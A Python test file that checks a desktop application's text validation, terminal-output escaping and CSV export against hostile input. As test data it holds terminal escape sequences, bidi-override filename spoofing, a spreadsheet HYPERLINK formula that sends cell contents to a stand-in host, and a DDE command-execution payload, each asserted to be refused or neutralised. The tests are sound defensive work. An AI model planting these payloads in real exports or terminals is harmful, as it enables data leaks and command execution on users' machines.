"""Issue 10 item 8: free text — one validation for both databases, escapes never printed raw, and CSV
exports that a spreadsheet cannot run.

Attacked as a hostile colleague would: a display name of 5,000 characters with terminal escapes, a
name holding bidi override characters, a staff row written straight into the SQLite file, and
customer data shaped like spreadsheet formulas.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest
from sqlalchemy import select

from db import migrate
from db.database import Database
from db.models import StaffUser
from desktop.cli import suppression as suppression_cli
from desktop.cli.messages import Messages
from desktop.core.roles import Role
from desktop.core.text import TextRefused, spreadsheet_cell
from desktop.services.suppression import SuppressionRow
from desktop.services.users import UserAdminService
from tests.data.test_cli import run
from tests.security.conftest import PASSWORD, SETUP, unique

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
BIDI = "\u202egnp.exe\u202c\u2066x\u2069"


def stored_users(database: Database) -> list[str]:
    with database.transaction() as session:
        return list(session.scalars(select(StaffUser.display_name)))


@pytest.mark.parametrize("shown", [ESCAPES + "A" * 5000, "A" * 5000, ESCAPES + "Aino", "Aino " + BIDI])
def test_a_hostile_display_name_is_refused_alike_on_both_databases(database: Database, shown: str) -> None:
    with pytest.raises(TextRefused) as refused:
        UserAdminService(database, SETUP).create_user(unique("aino"), Role.AGENT, PASSWORD, display_name=shown)
    # The same answer on SQLite and PostgreSQL, a message that says what to do, in Finnish too.
    finnish = Messages("fi")(refused.value.message, **refused.value.params)
    assert finnish != str(refused.value) and "Traceback" not in finnish
    assert stored_users(database) == []


def test_every_text_the_orm_writes_loses_bidi_overrides_and_respects_its_column(database: Database) -> None:
    with database.transaction() as session:
        session.add(StaffUser(username=unique("eero"), display_name="Eero " + BIDI, role="agent"))
    assert stored_users(database) == ["Eero gnp.exex"]
    # Past the services, the net: too long for the column is refused with a message on both databases
    # (before, SQLite stored 5,000 characters and PostgreSQL answered with a raw driver error).
    with pytest.raises(TextRefused), database.transaction() as session:
        session.add(StaffUser(username=unique("pitka"), display_name="A" * 5000, role="agent"))


def test_list_users_never_prints_terminal_escapes(tmp_path: Path) -> None:
    path = tmp_path / "desk.sqlite3"
    assert run("--db", str(path), "init", "--profile", "keminmaa", "--admin-user", "boss", "--password-stdin",
               stdin=PASSWORD + "\n").returncode == 0
    # Written past the application, as anyone with the file (or an older version) could.
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE staff_user SET display_name = ?", ("Boss" + ESCAPES + BIDI,))
    conn.close()
    listed = run("--db", str(path), "list-users")
    assert listed.returncode == 0 and "boss" in listed.stdout
    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout and "\u202e" not in listed.stdout
    assert "\\x1b" in listed.stdout  # shown, escaped, so the operator sees something is there


FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("cell", FORMULAS)
def test_one_helper_neutralises_every_formula_start(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell
    assert spreadsheet_cell("Mäkinen") == "Mäkinen" and spreadsheet_cell(None) == ""


def test_the_suppression_csv_export_carries_no_formula_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class HostileRegister:
        def __init__(self, *_: object) -> None:
            pass

        def export_suppression(self, _purpose: str, _channel: str, write) -> int:
            write(SuppressionRow("=1+1", "=cmd|' /C calc'!A0", "+358 street", "@00100", "-Oulu",
                                 ("\t=2",), "prohibited", ("customer",)))
            return 1

    monkeypatch.setattr(suppression_cli, "SuppressionService", HostileRegister)
    target = tmp_path / "out.csv"
    suppression_cli.export_suppression(None, SETUP, target, "direct_advertising", "post")  # type: ignore[arg-type]
    with target.open(encoding="utf-8-sig", newline="") as handle:
        _header, row = list(csv.reader(handle, delimiter=";"))
    assert row[:6] == ["'=1+1", "'=cmd|' /C calc'!A0", "'+358 street", "'@00100", "'-Oulu", "'\t=2"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_long_value_stored_by_an_older_version_does_not_block_other_changes_to_its_row(tmp_path: Path) -> None:
    database = Database.connect(str(tmp_path / "old.sqlite3"))
    try:
        migrate.upgrade(database.engine)
        with database.engine.begin() as conn:  # as SQLite let an older version store it
            conn.exec_driver_sql("INSERT INTO staff_user (username, display_name, role, active, failed_logins, "
                                 "created_at) VALUES ('vanha', ?, 'agent', 1, 0, '2026-01-01 00:00:00')", ("A" * 5000,))
        with database.transaction() as session:
            session.scalar(select(StaffUser).where(StaffUser.username == "vanha")).failed_logins = 1
        with database.transaction() as session:
            assert session.scalar(select(StaffUser.failed_logins)) == 1
    finally:
        database.dispose()
